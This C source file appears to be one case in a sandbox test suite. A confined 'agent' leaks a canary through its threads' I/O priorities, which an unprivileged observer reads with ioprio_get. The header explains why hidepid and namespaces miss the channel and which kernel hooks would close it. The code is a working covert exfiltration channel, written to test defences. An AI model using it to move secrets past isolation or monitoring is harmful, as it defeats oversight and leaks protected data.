// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_ioprio - [covert] the I/O priority of the agent's threads, read by ioprio_get(2), not
 * through /proc. Each thread may set its own I/O priority (best-effort class, levels 0-7: 3
 * bits, no capability needed), and any process may read any task's with
 * ioprio_get(IOPRIO_WHO_PROCESS, tid): no permission check, no /proc. The agent starts a
 * marker thread (idle class) and 16 threads that each store 3 bits of the canary's 48.
 * The same holds for nice values (getpriority), scheduling policy and CPU affinity
 * (sched_getscheduler, sched_getaffinity): docs/threat-model.md lists "nice value" with the
 * /proc/PID/stat fields, whose proposed fix (hidepid=invisible) does not cover these calls.
 * Verifier: uid 65534, without reading any /proc/PID: takes the last pid handed out
 * (/proc/sys/kernel/ns_last_pid, not per process) and probes ioprio_get over the tids below
 * it for the marker followed by 16 best-effort threads, and decodes them.
 * Closes it: not a PID namespace for the agent (an outsider in the host's namespace names its
 * tasks by their global ids), not hidepid, and not refusing the setters after the taint (new
 * threads inherit their creator's values, prepared before); the lsm hooks task_getioprio and
 * task_getscheduler could refuse outsiders' reads (docs/threat-model.md).
 * Bandwidth: 3 bits per thread per call, ~10^5 calls/s. */
#include <pthread.h>
#include <sys/syscall.h>

#include "atk.h"

#define NSYM 16
#define IOPRIO_CLASS_SHIFT 13
#define IOPRIO_BE 2
#define IOPRIO_IDLE 3
#define PRIO(cls, lvl) (((cls) << IOPRIO_CLASS_SHIFT) | (lvl))

static pthread_mutex_t mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t cv = PTHREAD_COND_INITIALIZER;
static int ready, done;

static void *holder(void *arg)
{
    long v = (long)arg;
    long rc = syscall(SYS_ioprio_set, 1 /* IOPRIO_WHO_PROCESS */, 0, (int)v);
    pthread_mutex_lock(&mu);
    ready += rc == 0 ? 1 : 1000;
    pthread_cond_broadcast(&cv);
    while (!done)
        pthread_cond_wait(&cv, &mu);
    pthread_mutex_unlock(&mu);
    return NULL;
}

static int agent(struct atk_ctx *c)
{
    unsigned long long v = strtoull(c->secret + 2, NULL, 16);
    pthread_t t[NSYM + 1];
    for (int i = 0; i <= NSYM; i++) { /* one at a time: consecutive tids, marker first */
        long prio = i == 0 ? PRIO(IOPRIO_IDLE, 0) : PRIO(IOPRIO_BE, (v >> (3 * (i - 1))) & 7);
        if (pthread_create(&t[i], NULL, holder, (void *)prio) != 0) {
            atk_note(c, "pthread_create failed");
            return 0;
        }
        pthread_mutex_lock(&mu);
        while (ready < i + 1 && ready < 1000)
            pthread_cond_wait(&cv, &mu);
        pthread_mutex_unlock(&mu);
    }
    atk_note(c, "ioprio_set in %d threads: %s", NSYM + 1, ready == NSYM + 1 ? "OK" : "failed");
    atk_sync(c, "set");
    pthread_mutex_lock(&mu);
    done = 1;
    pthread_cond_broadcast(&cv);
    pthread_mutex_unlock(&mu);
    for (int i = 0; i <= NSYM; i++)
        pthread_join(t[i], NULL);
    return 0;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    char b[32] = "";
    FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "re");
    long last = f && fgets(b, sizeof(b), f) ? atol(b) : -1;
    if (f)
        fclose(f);
    if (last <= 0)
        return 0;
    for (long p = last; p > 1 && p > last - 20000; p--) {
        if (syscall(SYS_ioprio_get, 1, (int)p) != PRIO(IOPRIO_IDLE, 0))
            continue;
        unsigned long long v = 0;
        int k;
        for (k = 1; k <= NSYM; k++) {
            long r = syscall(SYS_ioprio_get, 1, (int)(p + k));
            if (r < 0 || (r >> IOPRIO_CLASS_SHIFT) != IOPRIO_BE)
                break;
            v |= (unsigned long long)(r & 7) << (3 * (k - 1));
        }
        char got[32];
        snprintf(got, sizeof(got), "mk%012llx", v);
        if (k > NSYM && strcmp(got, c->canary) == 0) {
            snprintf(out, n, "uid 65534 decoded the canary from ioprio_get of tids %ld..%ld (no /proc/PID read)", p + 1,
                     p + NSYM);
            return 1;
        }
    }
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atk_verify_as_nobody(c, tag, NULL, rd); }

static const struct atk A = {"covert_ioprio",
                             "I/O priorities of the agent's threads, read with ioprio_get (no /proc)",
                             ATK_COVERT,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
